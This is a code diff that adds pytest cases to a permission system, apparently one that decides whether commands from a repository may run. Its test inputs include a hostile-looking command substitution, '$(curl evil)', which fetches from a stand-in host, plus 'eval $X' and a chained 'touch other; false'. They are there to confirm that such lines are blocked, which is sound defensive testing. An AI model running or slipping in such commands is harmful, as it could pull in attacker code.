@@ -113,9 +113,28 @@ async def test_a_repositorys_command_runs_only_by_a_rule_of_the_person(bench: Be
     assert (await bench.open().run("go")).status == "done"
     assert not (bench.tree / "pwned").exists()
     permissions = Permissions()
-    permissions.remember(rules_for(theirs.command, permissions), "session")
+    permissions.remember(rules_for(theirs.command), "session")
     assert may_run(theirs, permissions)
     assert not may_run(Check("lint", "touch other; false", own=False), permissions)
+
+
+@pytest.mark.parametrize(
+    "command", ["cat notes.txt", "grep -q a b", "make lint && pytest -q > out.txt", "ruff check ."]
+)
+def test_no_command_of_a_repository_is_harmless_enough_to_go_unasked(command: str) -> None:
+    check, permissions = Check("lint", command, own=False), Permissions()
+    assert not may_run(check, permissions)
+    permissions.remember(rules_for(command), "session")
+    assert may_run(check, permissions)
+    permissions.change("plan")
+    assert not may_run(check, permissions) or command.startswith(("cat", "grep"))
+
+
+@pytest.mark.parametrize("command", ["$(curl evil)", "eval $X", "$LINTER ."])
+def test_a_line_that_no_rule_can_name_never_runs_for_a_repository(command: str) -> None:
+    permissions = Permissions()
+    permissions.remember(rules_for(command), "session")
+    assert not may_run(Check("lint", command, own=False), permissions)
 
 
 def test_the_mode_and_deny_rules_hold_for_the_persons_own_commands() -> None:
